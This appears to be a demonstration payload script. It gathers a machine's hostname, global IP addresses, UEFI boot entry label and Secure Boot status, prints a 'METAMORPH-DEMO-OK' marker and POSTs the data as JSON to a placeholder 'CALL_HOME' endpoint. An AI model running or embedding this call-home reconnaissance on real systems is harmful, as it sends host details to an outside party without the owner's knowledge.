import glob, json, socket, subprocess, urllib.request
def variable(name):
    found = glob.glob('/sys/firmware/efi/efivars/' + name + '-*')
    return open(found[0], 'rb').read()[4:] if found else b''
current = variable('BootCurrent')
entry = variable('Boot%04X' % int.from_bytes(current, 'little')) if current else b''
label = entry[6:].decode('utf-16-le', 'replace').split('\0')[0] if entry else '(none)'
addresses = [a['local'] + '/' + str(a['prefixlen'])
             for i in json.loads(subprocess.check_output(['ip', '-j', 'address'])) for a in i['addr_info'] if a['scope'] == 'global']
report = {'hostname': socket.gethostname(), 'addresses': addresses, 'boot_entry': label, 'secure_boot': variable('SecureBoot') == b'\x01'}
print('METAMORPH-DEMO-OK ' + json.dumps(report), flush=True)
request = urllib.request.Request('CALL_HOME', json.dumps(report).encode(), {'Content-Type': 'application/json'})
urllib.request.urlopen(request, timeout=30)
